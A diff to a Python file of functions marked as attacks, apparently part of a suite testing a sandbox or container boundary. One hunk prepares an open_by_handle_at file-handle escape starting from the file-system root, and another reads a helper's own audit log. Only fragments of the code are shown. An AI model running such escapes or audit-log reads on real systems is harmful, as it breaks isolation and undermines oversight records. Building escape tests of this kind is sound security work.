@@ -77,7 +77,7 @@ def read_by_handle(target):
     """open_by_handle_at(2) on the root of the file system, which no mount covers; then down"""
     handle = ctypes.create_string_buffer(struct.pack("=II", 8, 1) +
                                          struct.pack("=II", ROOT_INODE, 0) + bytes(120))
-    below = os.open(target.open, os.O_RDONLY)
+    below = os.open("/var", os.O_RDONLY)
     number = ctypes.c_int(0)
     own = ctypes.create_string_buffer(struct.pack("=II", 128, 0) + bytes(128))
     syscall("name_to_handle_at", AT_FDCWD, b"/", own, ctypes.byref(number), 0)
@@ -113,7 +113,8 @@ def look_into(_, path):
 @attack()
 def read_the_audit_log(target):
     """The helper's own log"""
-    return [len(_read(os.path.join(target.audit, name))) for name in os.listdir(target.audit)]
+    names = os.listdir(target.audit) or _nothing()
+    return [len(_read(os.path.join(target.audit, name))) for name in names]
 
 
 @attack()
